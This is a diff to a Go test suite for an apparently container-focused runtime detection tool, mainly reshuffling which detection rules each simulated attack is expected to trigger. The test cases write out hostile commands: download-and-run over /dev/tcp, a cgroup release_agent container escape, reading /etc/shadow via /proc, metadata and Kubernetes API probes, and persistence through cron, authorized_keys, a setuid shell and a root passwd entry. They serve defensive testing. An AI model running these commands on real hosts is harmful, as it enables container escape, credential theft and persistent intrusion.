@@ -16,7 +16,7 @@ const (
 const timed = "timeout 5 "
 
 func attacks() []attackCase {
-	return slices.Concat(reverseShells(), mining(), naming(), execution(), escapes(), credentials(), persistence(), hiding(), others())
+	return slices.Concat(reverseShells(), mining(), naming(), execution(), escapes(), credentials(), persistence(), hiding(), others(), bringing(), servers(), onHost())
 }
 
 // Most command lines give a reverse shell away: the agent ends the process before it comes to
@@ -50,7 +50,7 @@ func mining() []attackCase {
 		{name: "miner-protocol", script: timed + `python3 -c 'import socket;s=socket.create_connection(("203.0.113.5",3333));s.send(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44Ab\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n");s.settimeout(2);print("answer",s.recv(1))'`,
 			rules: []string{"miner"}, least: high, outcome: bollwerk.Denied},
 		{name: "miner-command", script: `cp /bin/sleep /tmp/xmrig; bash -c 'exec -a /tmp/xmrig sleep 0.2 -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -p x' || true`,
-			rules: []string{"miner", "miner-command-line"}, least: high},
+			rules: []string{"miner-command-line"}, least: high},
 		{name: "miner-names", script: `for h in pool.minexmr.com xmr.pool.minergate.com pool.supportxmr.com; do getent hosts $h; done`, rules: []string{"miner"}, least: high},
 	}
 }
@@ -88,7 +88,7 @@ f=os.memfd_create("x",1);os.write(f,open("/bin/echo","rb").read());os.execve(f,[
 		{name: "drift-modified", script: `cat /bin/echo > /usr/bin/w; /usr/bin/w modified-ran`,
 			rules: []string{"drift-execution", "modified-program"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "modified-ran"},
 		{name: "drift-tmp", script: `cp /bin/echo /tmp/x; /tmp/x drift-ran`,
-			rules: []string{"drift-execution", "execution-from-temporary-folder"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "drift-ran"},
+			rules: []string{"execution-from-temporary-folder"}, also: []string{"drift-execution"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "drift-ran"},
 		{name: "shared-memory", script: `cp /bin/echo /dev/shm/x; /dev/shm/x shm-ran`, opts: []option{runnableMemory}, rules: []string{"execution-from-shared-memory"}, least: medium},
 		{name: "download-and-run", script: timed + `bash -c 'exec 3<>/dev/tcp/203.0.113.5/80; cat <&3 | tail -n 2 > /tmp/d.sh; chmod +x /tmp/d.sh; /tmp/d.sh'`,
 			rules: []string{"download-and-run", "execution-from-temporary-folder", "drift-execution"}, least: medium},
@@ -112,9 +112,9 @@ func escapes() []attackCase {
 		{name: "release-agent", script: `mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg 2>/dev/null || mount -t cgroup -o pids cgroup /tmp/cg 2>/dev/null || mount -t cgroup -o none,name=x cgroup /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; echo /cmd > /tmp/cg/release_agent; rmdir /tmp/cg/x; umount /tmp/cg`,
 			opts: []option{privileged}, rules: []string{"kernel-setting-from-container"}, once: "kernel-setting-from-container", least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied},
 		{name: "nsenter", script: `nsenter -t 1 -m -u -i -n true || nsenter -t 2 -m true; nsenter -t 1 -m true`, opts: []option{privileged, hostPID},
-			rules: []string{"namespace-tool-in-container", "container-escape", "host-namespace-entered"}, least: high},
-		{name: "proc-root", script: `cat /proc/1/root/etc/hostname; cat /proc/2/root/etc/shadow > /dev/null`, opts: []option{privileged, hostPID}, rules: []string{"host-files-through-proc", "password-file-read"}, least: medium},
-		{name: "host-mount", script: `mkdir /tmp/m; mount -t tmpfs none /tmp/m && mount --bind /proc /tmp/m`, opts: []option{privileged}, rules: []string{"mount-in-container", "container-escape"}, least: medium},
+			rules: []string{"namespace-tool-in-container"}, also: []string{"host-namespace-entered"}, least: high},
+		{name: "proc-root", script: `cat /proc/1/root/etc/hostname; cat /proc/2/root/etc/shadow > /dev/null`, opts: []option{privileged, hostPID}, rules: []string{"host-files-through-proc"}, also: []string{"password-file-read"}, least: medium},
+		{name: "host-mount", script: `mkdir /tmp/m; mount -t tmpfs none /tmp/m && mount --bind /proc /tmp/m`, opts: []option{privileged}, rules: []string{"mount-in-container"}, least: medium},
 		{name: "docker-socket", script: `rm -f /run/docker.sock; socat unix-listen:/run/docker.sock,fork exec:/bin/true & while [ ! -S /run/docker.sock ]; do :; done; curl -s --max-time 1 --unix-socket /run/docker.sock http://x/containers/json; kill %1`,
 			rules: []string{"container-runtime-socket"}, least: medium},
 		{name: "module", script: `head -c 4096 /dev/zero > /tmp/x.ko; python3 -c 'import ctypes,os;l=ctypes.CDLL(None);f=os.open("/tmp/x.ko",0);print(l.syscall(313,f,b"",0))'`, opts: []option{privileged},
@@ -143,8 +143,8 @@ func credentials() []attackCase {
 		{name: "cloud-key", script: `mkdir -p /root/.aws; echo x > /root/.aws/credentials; sleep 0.2; cat /root/.aws/credentials`, rules: []string{"cloud-credential-read"}, least: medium},
 		{name: "environ", script: `sleep 60 & cat /proc/1/environ > /dev/null; cat /proc/$!/environ | tr '\0' '\n' > /dev/null`, rules: []string{"environment-of-others-read"}, least: low},
 		{name: "process-memory", script: `sleep 60 & python3 -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"rb")' $!`, opts: []option{privileged}, rules: []string{"process-memory-opened"}, least: medium},
-		{name: "metadata", script: timed + `curl -s http://169.254.169.254/latest/meta-data/iam/ || bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'`, rules: []string{"metadata-service-by-tool", "metadata-service-contact"}, least: medium},
-		{name: "api-server", script: timed + `curl -sk https://10.96.0.1:443/api`, rules: []string{"control-plane-contact", "kubernetes-api-by-tool"}, least: low},
+		{name: "metadata", script: timed + `curl -s http://169.254.169.254/latest/meta-data/iam/ || bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'`, rules: []string{"metadata-service-by-tool"}, also: []string{"metadata-service-contact"}, least: medium},
+		{name: "api-server", script: timed + `curl -sk https://10.96.0.1:443/api`, rules: []string{"kubernetes-api-by-tool"}, least: low},
 		{name: "kubelet", script: timed + `curl -sk https://10.96.0.1:10250/pods; true`, rules: []string{"control-plane-contact"}, least: medium},
 		{name: "token", script: `echo x > /run/secrets/kubernetes.io/serviceaccount/token; sleep 0.2; python3 -c 'open("/run/secrets/kubernetes.io/serviceaccount/token").read()'`,
 			opts: []option{serviceAccount}, rules: []string{"service-account-token-read"}, least: medium},
@@ -152,18 +152,17 @@ func credentials() []attackCase {
 }
 
 func persistence() []attackCase {
-	rules := []string{"scheduled-task-written", "authorized-keys-written", "shell-startup-written", "service-unit-written", "setuid-bit-set", "account-file-written"}
 	return []attackCase{
-		{name: "cron", script: `mkdir -p /etc/cron.d; sleep 0.2; echo '* * * * * root /tmp/x' > /etc/cron.d/x`, rules: rules, least: medium},
-		{name: "authorized-keys", script: `mkdir -p /root/.ssh; sleep 0.2; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys`, rules: rules, least: medium},
+		{name: "cron", script: `mkdir -p /etc/cron.d; sleep 0.2; echo '* * * * * root /tmp/x' > /etc/cron.d/x`, rules: []string{"scheduled-task-written"}, least: medium},
+		{name: "authorized-keys", script: `mkdir -p /root/.ssh; sleep 0.2; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: medium},
 		{name: "authorized-keys-at-once", script: `mkdir -p /root/.ssh; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; true`, rules: []string{"authorized-keys-written"}, least: high, by: "bash"},
 		{name: "authorized-keys-moved", script: `echo ssh-rsa AAAA > /tmp/k; mkdir -p /home/new/.ssh; mv /tmp/k /home/new/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: high},
 		{name: "authorized-keys-service", script: `mkdir -p /var/lib/app/.ssh; echo ssh-rsa AAAA >> /var/lib/app/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: high},
-		{name: "shell-profile", script: `echo 'curl x|sh' >> /root/.bashrc`, rules: rules, least: low},
-		{name: "unit", script: `mkdir -p /etc/systemd/system; echo '[Service]' > /etc/systemd/system/x.service`, rules: rules, least: medium},
-		{name: "set-uid", script: `cp /bin/bash /usr/bin/rootsh; chmod u+s /usr/bin/rootsh`, rules: rules, least: medium},
+		{name: "shell-profile", script: `echo 'curl x|sh' >> /root/.bashrc`, rules: []string{"shell-startup-written"}, least: low},
+		{name: "unit", script: `mkdir -p /etc/systemd/system; echo '[Service]' > /etc/systemd/system/x.service`, rules: []string{"service-unit-written"}, least: medium},
+		{name: "set-uid", script: `cp /bin/bash /usr/bin/rootsh; chmod u+s /usr/bin/rootsh`, rules: []string{"setuid-bit-set"}, least: medium},
 		{name: "set-uid-home", script: `cp /bin/bash /home/r; chmod 4755 /home/r`, rules: []string{"setuid-bit-set"}, least: high},
-		{name: "account", script: `echo 'evil::0:0::/:/bin/sh' >> /etc/passwd`, rules: rules, least: medium},
+		{name: "account", script: `echo 'evil::0:0::/:/bin/sh' >> /etc/passwd`, rules: []string{"account-file-written"}, least: medium},
 	}
 }
 
@@ -193,7 +192,7 @@ for i in range(1,120):
   s=socket.socket();s.settimeout(0.02)
   try: s.connect(("10.77.%d.%d"%(i//50,i),22))
   except OSError: pass
-  s.close()'`, rules: []string{"network-scan", "ssh-from-container"}, least: medium},
+  s.close()'`, rules: []string{"network-scan"}, also: []string{"ssh-from-container"}, least: medium},
 		{name: "port-scan", script: timed + `python3 -c '
 import socket
 for p in range(1,400):
